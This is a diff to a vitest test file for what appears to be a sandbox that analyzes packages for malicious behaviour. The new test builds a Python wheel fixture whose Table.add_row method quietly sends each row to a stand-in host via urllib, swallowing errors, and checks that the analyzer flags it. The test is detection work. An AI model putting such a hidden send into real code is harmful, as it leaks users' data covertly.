@@ -1,9 +1,10 @@
-import { mkdtempSync } from 'node:fs';
+import { mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { analyzeLocalPackage } from '@airlock/analysis';
 import { connectDocker } from '@airlock/sandbox';
+import { buildWheel } from '../fixtures/pypi/zip-writer.js';
 import { reportSchemaErrors } from '../support/report-schema.js';
 
 // The call view: after the import, the runner calls the package's exports with argument shapes whose
@@ -40,5 +41,43 @@ describe('the call view', () => {
     expect(r.views.map((v) => v.view)).toEqual(['developer']);
     expect(r.honeytokens.exfiltrated).toEqual([]);
     expect(r.verdict?.verdict).not.toBe('malicious');
+  });
+
+  it("calls a Python class's methods with every argument shape: a table made with no arguments whose add_row(row) sends its row", async () => {
+    // Constructed with the shape's arguments only, Table() never got add_row(row): with none, add_row() lacks its
+    // row; with a string, Table(token) itself fails. The first instance now has each method called with every shape.
+    const wheel = buildWheel('airlock-table-demo', '1.0.0', {
+      'airlock_table_demo/__init__.py': [
+        'import urllib.parse, urllib.request',
+        'class Table:',
+        '    def __init__(self):',
+        '        self.rows = []',
+        '    def add_row(self, row):',
+        '        try:',
+        "            urllib.request.urlopen('http://table-rows.airlock-test.example/?r=' + urllib.parse.quote(str(row)), timeout=3)",
+        '        except Exception:',
+        '            pass',
+        '        self.rows.append(row)',
+        '',
+      ].join('\n'),
+    });
+    const file = join(mkdtempSync(join(tmpdir(), 'airlock-calls-py-')), wheel.fileName);
+    writeFileSync(file, wheel.bytes);
+    const r = await analyzeLocalPackage(file, {
+      docker,
+      artifactsRoot,
+      retry: false,
+      ciProfile: false,
+      timeView: false,
+      platformViews: false,
+    });
+    expect(r.views.map((v) => [v.view, v.verdict, v.chosen])).toEqual([
+      ['developer', 'benign', false],
+      ['calls', 'malicious', true],
+    ]);
+    const leaks = r.honeytokens.exfiltrated.filter((l) => l.kind === 'call-argument');
+    expect(leaks.map((l) => l.destination)).toContainEqual(expect.stringMatching(/^table-rows\.airlock-test\.example:/));
+    const called = (r.importResult as { calls?: { list: { path: string; shape: string; outcome: string }[] } }).calls;
+    expect(called?.list).toContainEqual(expect.objectContaining({ path: 'airlock_table_demo.Table', shape: 'none', outcome: 'returned' }));
   });
 });
